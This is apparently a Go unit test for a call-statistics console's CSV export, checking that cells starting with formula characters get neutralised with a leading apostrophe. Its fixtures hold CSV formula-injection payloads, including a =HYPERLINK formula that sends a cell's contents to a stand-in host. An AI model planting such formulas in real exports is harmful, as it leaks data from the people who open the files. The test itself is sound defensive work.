package console

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"callgate/internal/stats"
)

// TestNoCellOfAnExportIsAFormula: the upstream's model is often what the caller wrote.
func TestNoCellOfAnExportIsAFormula(t *testing.T) {
	message := "@SUM(1)"
	var c stats.Call
	c.Model, c.UpstreamModel = "+1", `=HYPERLINK("http://x/"&A1)`
	c.Reason = &stats.FailureReason{Type: "-1", Code: "\t=1", Message: &message}
	var out bytes.Buffer
	w := csv.NewWriter(&out)
	if err := writeLine(w, exportLine(c)); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	lines, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	quoted := 0
	for _, cell := range lines[0] {
		if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Errorf("%q would be worked out", cell)
		}
		if strings.HasPrefix(cell, "'") {
			quoted++
		}
	}
	if quoted != 5 {
		t.Errorf("%d cells are quoted of %q", quoted, lines[0])
	}
}
